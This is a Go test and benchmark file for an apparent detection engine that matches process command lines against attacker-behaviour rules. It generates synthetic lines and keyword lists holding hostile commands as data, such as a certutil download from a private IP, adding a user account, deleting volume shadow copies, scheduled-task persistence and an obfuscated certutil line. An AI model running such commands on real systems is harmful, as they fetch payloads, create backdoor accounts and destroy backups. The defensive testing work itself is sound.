package match

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// streamLines makes n command lines of about 300 bytes in the shape of a
// process-creation stream: a program, then switches, paths, URLs, numbers
// and quoted arguments, with now and then a word the sentinel pack looks for
// (certutil, /create, net user ...) and, in about one line in 20, a whole
// phrase of it. Deterministic, so runs compare.
func streamLines(n int) [][]byte {
	programs := []string{`"C:\Program Files\Google\Chrome\Application\chrome.exe"`, `C:\Windows\system32\svchost.exe`,
		`powershell.exe`, `cmd.exe /c`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"`, `rundll32.exe`,
		`C:\Windows\System32\conhost.exe`, `msiexec.exe`, `python3`, `java`, `curl`, `certutil.exe`, `schtasks.exe`}
	args := []string{`--type=renderer`, `--lang=en-US`, `-NoProfile`, `-ExecutionPolicy Bypass`, `-WindowStyle Hidden`,
		`/quiet`, `/norestart`, `-k netsvcs -p`, `C:\Users\alice\AppData\Local\Temp\setup.log`, `%TEMP%\x.tmp`,
		`https://updates.example.com/v2/manifest.json`, `"quoted argument"`, `--field-trial-handle=1712,i,8424`,
		`0x7ffe0000`, `&&`, `|`, `2>&1`, `>nul`, `-o out.log`, `--retry=3`, `user=svc_backup`, `Get-Process`,
		`Start-Sleep -s 5`, `value=$HOME`, `a,b,c`, `;`, `-enc SQBFAFgA`, `-f`, `/v`, `x64`, `report.xlsx`, `/prefetch:1`}
	hot := []string{`/create`, `certutil`, `urlcache`, `net`, `user`, `/add`, `schtasks`, `reg`, `delete`, `bitsadmin`}
	phrases := []string{`certutil -urlcache -split -f http://10.0.0.5/a.bin a.bin`, `schtasks /create /tn T /tr x.exe`,
		`net user backup P@ss /add`, `reg add HKCU\Software\x /v y /d z /f`, `vssadmin delete shadows /all /quiet`}
	r := rand.New(rand.NewPCG(7, 8))
	lines := make([][]byte, n)
	for i := range lines {
		var b strings.Builder
		b.WriteString(programs[r.IntN(len(programs))])
		for b.Len() < 280+r.IntN(40) {
			b.WriteByte(' ')
			switch k := r.IntN(500); {
			case k < 1:
				b.WriteString(phrases[r.IntN(len(phrases))])
				continue
			case k < 40:
				b.WriteString(hot[r.IntN(len(hot))])
			default:
				b.WriteString(args[r.IntN(len(args))])
			}
			if r.IntN(7) == 0 {
				fmt.Fprint(&b, r.IntN(100000))
			}
		}
		lines[i] = []byte(b.String())
	}
	return lines
}

// BenchmarkMatchStream: a benign line of the common kind, and a stream of
// varied lines (rows/s is per line).
func BenchmarkMatchStream(b *testing.B) {
	s := sentinel(b)
	b.Run(fmt.Sprintf("sentinel/benign/%dB", len(chromeLine)), func(b *testing.B) {
		benchmarkMatch(b, s, chromeLine, `C:\Windows\explorer.exe`)
	})
	lines := streamLines(4096)
	b.Run("sentinel/stream", func(b *testing.B) {
		m := s.NewMatcher()
		parent := []byte(`C:\Windows\explorer.exe`)
		var size int64
		for _, l := range lines {
			size += int64(len(l))
		}
		b.SetBytes(size / int64(len(lines)))
		b.ReportAllocs()
		i := 0
		for b.Loop() {
			sinkHits = m.Match(lines[i%len(lines)], parent)
			i++
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
	})
}

// TestStreamLines: the stream of the benchmark has the mix it claims, so
// that its figure means what it says.
func TestStreamLines(t *testing.T) {
	s := sentinel(t)
	m := s.NewMatcher()
	lines := streamLines(4096)
	var hit, pass int
	for _, l := range lines {
		if len(m.Match(l, nil)) > 0 {
			hit++
		}
		if s.filter.mayMatch(new(tokenSeen), append(l, fillerPad[:]...), len(l)) {
			pass++
		}
	}
	t.Logf("%d lines: %d match a rule, the filter lets %d through", len(lines), hit, pass)
	if hit < len(lines)/50 || hit > len(lines)/5 || pass >= len(lines)/3 {
		t.Errorf("%d lines: %d match, %d pass the filter: not the mix intended", len(lines), hit, pass)
	}
}

// TestMatchPaths: with and without the filter, and with the compact or the
// plain automaton, Match gives the same answers.
func TestMatchPaths(t *testing.T) {
	n := 5000
	if testing.Short() {
		n = 500
	}
	lines := append(testLines(t, n), streamLines(n/10)...)
	lines = append(lines, []byte(strings.Repeat("net user x /add ", 200)))
	for name, s := range filterSets(t) {
		noFilter := *s
		noFilter.filter = nil
		ac := *s.ac
		ac.next32 = nil
		plainAC := *s
		plainAC.ac = &ac
		neither := plainAC
		neither.filter = nil
		m := s.NewMatcher()
		ms := []*Matcher{noFilter.NewMatcher(), plainAC.NewMatcher(), neither.NewMatcher()}
		for _, l := range lines {
			want := slices.Clone(m.Match(l, []byte(winword)))
			for i, v := range ms {
				if got := v.Match(l, []byte(winword)); !slices.Equal(got, want) {
					t.Fatalf("%s: variant %d: Match(%q) = %v, want %v", name, i, l, got, want)
				}
			}
		}
	}
}

// TestDivider: the multiply that stands for a division is exact over the
// range of table offsets: every number below 1<<16, then near every
// multiple up to maxTable.
func TestDivider(t *testing.T) {
	step := 1
	if testing.Short() {
		step = 7
	}
	for d := 1; d <= 256; d += step {
		v := newDivider(d)
		check := func(x int) {
			if got := v.of(uint32(x)); got != x/d {
				t.Fatalf("%d/%d = %d, want %d", x, d, got, x/d)
			}
		}
		for x := range 1 << 16 {
			check(x)
		}
		for q := 1 << 16 / d; q*d < maxTable; q += 1 + q/4096 {
			check(q*d - 1)
			check(q * d)
		}
		check(maxTable - 1)
	}
}

// TestMatchAllocsPaths: no allocation on the paths TestMatchAllocs may not
// take: lines the filter rules out, lines it lets through, a stream.
func TestMatchAllocsPaths(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	s := sentinel(t)
	m := s.NewMatcher()
	lines := append([][]byte{[]byte(chromeLine), []byte(benchLine), []byte(`cmd /c c"er"tu^til -url^cache -f http://x/a a`)},
		streamLines(64)...)
	parent := []byte(winword)
	for _, l := range lines {
		m.Match(l, parent)
		m.Normalized()
	}
	allocs := testing.AllocsPerRun(50, func() {
		for _, l := range lines {
			m.Match(l, parent)
			m.Normalized()
		}
	})
	if allocs != 0 {
		t.Errorf("Match allocates %v times per run", allocs)
	}
}
